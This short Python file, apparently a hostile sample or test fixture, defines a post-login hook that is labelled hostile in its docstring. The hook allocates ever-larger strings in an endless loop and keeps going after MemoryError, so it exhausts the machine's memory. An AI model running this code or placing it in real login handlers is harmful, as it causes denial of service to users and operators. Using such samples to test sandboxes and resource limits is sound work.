"""Hostile: take memory until the machine has none, and ask for more when told that there is none."""


def on_execute_post_login(event, api):
    hoard = []
    while True:
        try:
            hoard.append("x" * (500_000 + len(hoard)))
        except MemoryError:
            print("more!")
